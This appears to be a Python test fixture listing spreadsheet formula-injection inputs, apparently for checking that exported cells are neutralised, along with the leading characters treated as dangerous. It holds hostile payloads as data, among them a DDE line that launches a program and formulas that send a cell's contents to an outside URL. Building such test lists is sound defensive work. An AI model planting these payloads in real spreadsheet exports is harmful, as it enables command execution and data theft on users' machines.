"""Texts that a spreadsheet might carry out, or that might leave their cell."""

FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠SUM(1)"]
PAYLOADS = [
    *FORMULAS,
    "=cmd|'/C calc'!A0",
    "=HYPERLINK(\"https://example.org?\"&A1,\"klicka\")",
    "=IMPORTXML(CONCAT(\"https://example.org?\",A1),\"//a\")",
    "=WEBSERVICE(\"https://example.org\")",
    "=DDE(\"soffice\",\"x\",\"y\")",
    "@=1+1",
    "--1",
    "+46 550-880 00",
    "-",
    "=",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u3000=1+1",
    "'=1+1",
    "\"=1+1\"",
    "\"\"=1+1",
    "text;=1+1",
    "text,=1+1",
    "text\t=1+1",
    "text\n=1+1",
    "text\r\n=1+1;\"x\"",
    "text\";=1+1;\"",
    "_x003D_1+1",
    "_x000D_=1",
    "https://example.org",
    "mailto:nagon@example.org",
    "external:c:\\boot.ini",
    "internal:Sheet1!A1",
    "{=1+1}",
    "<f>1+1</f>",
    "]]><f>1</f>",
    "1234,50",
    "00123",
    "1E5",
    "2026-03-02",
    "TRUE",
    "#N/A",
    "\U0001f333 park \u202e dold",
]  # fmt: skip
DANGEROUS = tuple("=+-@\t\r\n＝＋－＠")


def is_number(cell: str) -> bool:
    return cell.removeprefix("-").replace(",", "", 1).isdecimal()
